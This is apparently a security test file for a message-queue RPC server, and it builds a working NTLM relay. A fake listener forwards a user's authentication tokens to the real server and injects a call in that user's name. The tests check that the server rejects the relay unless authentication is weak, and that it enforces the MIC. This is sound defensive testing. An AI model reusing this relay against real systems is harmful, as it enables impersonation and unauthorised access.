"""An NTLM relay attack.

A user logs on to the relay, which forwards the user's NTLM messages to the queue manager and
continues there in the user's name. The user's program is impacket's. The relay has no password and
no key, only the data on the wire.
"""

from __future__ import annotations

import asyncio
import contextlib
from dataclasses import dataclass, field
from pathlib import Path
from typing import Final

import pytest

import lanner
from lanner.rpc.faults import FaultStatus
from lanner.rpc.pdu import (
    NDR20,
    PFC_WHOLE,
    Auth3,
    AuthLevel,
    Bind,
    BindAck,
    ContextElement,
    Fault,
    Header,
    PacketType,
    Request,
    SecTrailer,
    SyntaxId,
    assemble,
)
from lanner.services.interfaces.mqmp import QMCOMM
from tests.adversity.attacks.victim import ADMINISTRATOR, Victim, victim
from tests.services.calls import CALLS
from tests.statuses import MQ_ERROR_ACCESS_DENIED

stubs = pytest.importorskip("tests.interop.impacket_stubs", reason="impacket is not installed")

ASK: Final = next(call for call in CALLS if call.method.name == "R_QMQueryQMRegistryInternal")
SIGNATURE_SIZE: Final = 16


async def read_pdu(reader: asyncio.StreamReader) -> tuple[Header, bytes]:
    front = await reader.readexactly(16)
    return Header.unpack(front), front + await reader.readexactly(int.from_bytes(front[8:10], "little") - 16)


@dataclass
class Relay:
    """A relay that users mistake for a queue manager."""

    target: Victim
    # That the relay asks the queue manager for; users ask it for another.
    level: AuthLevel
    is_logged_on: asyncio.Event = field(default_factory=asyncio.Event)
    server: tuple[asyncio.StreamReader, asyncio.StreamWriter] | None = None
    auth_type: int = 0

    async def serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        header, pdu = await read_pdu(reader)
        trailer = Bind.unpack(pdu, header).trailer
        assert trailer is not None
        self.auth_type = trailer.auth_type
        there, out = self.server = await asyncio.open_connection(self.target.address, self.target.port())
        element = ContextElement(0, SyntaxId(QMCOMM.uuid, *QMCOMM.version), (NDR20,))
        own = Bind(5840, 5840, 0, (element,), SecTrailer(trailer.auth_type, self.level, 1, trailer.token))
        out.write(own.pack(PacketType.BIND, PFC_WHOLE, 1))
        header_there, pdu_there = await read_pdu(there)
        answer = BindAck.unpack(pdu_there, header_there)
        assert answer.trailer is not None
        challenge = SecTrailer(trailer.auth_type, trailer.auth_level, trailer.auth_context_id, answer.trailer.token)
        told = BindAck(5840, 5840, answer.assoc_group_id, answer.secondary_address, answer.results, challenge)
        writer.write(told.pack(PacketType.BIND_ACK, header.flags, header.call_id))
        header, pdu = await read_pdu(reader)
        assert header.packet_type == PacketType.AUTH3
        token = Auth3.unpack(pdu, header).trailer.token
        out.write(Auth3(SecTrailer(trailer.auth_type, self.level, 1, token)).pack(PFC_WHOLE, 1))
        writer.close()
        self.is_logged_on.set()

    async def inject(self, *, is_signed: bool) -> int:
        """Make a call in the user's name; the status it returns, or that of its fault."""
        assert self.server is not None
        reader, writer = self.server
        stub = ASK.method.encode_request(ASK.arguments)
        body = Request(len(stub), 0, ASK.method.opnum).pack_front() + stub
        trailer = SecTrailer(self.auth_type, self.level, 1, bytes(SIGNATURE_SIZE)) if is_signed else None
        writer.write(assemble(PacketType.REQUEST, PFC_WHOLE, 2, body, trailer))
        header, pdu = await read_pdu(reader)
        if header.packet_type == PacketType.FAULT:
            return Fault.unpack(pdu, header).status
        assert header.packet_type == PacketType.RESPONSE
        return int.from_bytes(pdu[-4:], "little")


def log_on(port: int) -> None:
    """Act as the user: log on to the relay with integrity and make a call, which fails."""
    rpc = stubs.connect(port, stubs.LEVELS["integrity"], ADMINISTRATOR.user, ADMINISTRATOR.password)
    with contextlib.suppress(Exception):
        rpc.bind(stubs.QMCOMM)
    rpc.disconnect()


async def relayed(target: Victim, level: AuthLevel, *, is_signed: bool) -> int:
    relay = Relay(target, level)
    listening = await asyncio.start_server(relay.serve, "127.0.0.1", 0)
    async with listening:
        await asyncio.to_thread(log_on, listening.sockets[0].getsockname()[1])
        await relay.is_logged_on.wait()
        status = await relay.inject(is_signed=is_signed)
        assert relay.server is not None
        relay.server[1].close()
        return status


@pytest.mark.parametrize(
    ("level", "is_signed", "status"),
    [
        # The logon itself succeeds, as that of an administrator. It is worth nothing.
        (AuthLevel.CONNECT, False, MQ_ERROR_ACCESS_DENIED),
        (AuthLevel.PKT_INTEGRITY, False, MQ_ERROR_ACCESS_DENIED),
        (AuthLevel.PKT_INTEGRITY, True, FaultStatus.SEC_PKG_ERROR),
        (AuthLevel.PKT_PRIVACY, True, FaultStatus.SEC_PKG_ERROR),
    ],
)
def test_a_relayed_logon_is_of_no_use(tmp_path: Path, level: AuthLevel, is_signed: bool, status: int) -> None:
    with victim(tmp_path) as target:
        assert asyncio.run(asyncio.wait_for(relayed(target, level, is_signed=is_signed), 60)) == status


def test_the_relay_of_this_test_works(tmp_path: Path) -> None:
    """Where an operator asks for no more than a logon, its calls are the administrator's."""
    with victim(tmp_path, '[rpc]\nauthentication_level = "connect"\n') as target:
        assert asyncio.run(asyncio.wait_for(relayed(target, AuthLevel.CONNECT, is_signed=False), 60)) == 0


@pytest.mark.parametrize("is_required", [False, True])
def test_an_integrity_code_can_be_required(tmp_path: Path, is_required: bool) -> None:
    """Impacket sends none; our own client and Windows do, because the challenge has a timestamp."""

    def ask(target: Victim) -> None:
        channel = stubs._transport.DCERPCTransportFactory(f"ncacn_ip_tcp:{target.address}[{target.port()}]")
        channel.set_credentials(ADMINISTRATOR.user, ADMINISTRATOR.password, "MQ")
        rpc = channel.get_dce_rpc()
        rpc.set_auth_level(stubs.LEVELS["privacy"])
        rpc.connect()
        try:
            rpc.bind(stubs.QMCOMM)
            rpc.call(ASK.method.opnum, ASK.method.encode_request(ASK.arguments))
            rpc.recv()
        finally:
            rpc.disconnect()

    with victim(tmp_path, f"[rpc]\nrequire_mic = {str(is_required).lower()}\n") as target:
        if is_required:
            with pytest.raises(stubs.rpcrt.DCERPCException):
                ask(target)
            assert any("sent no MIC" in line for line in target.log)
        else:
            ask(target)
        with lanner.connect(target.address, ADMINISTRATOR.user, ADMINISTRATOR.password, port=target.port()) as qm:
            assert qm.name == "VICTIM"
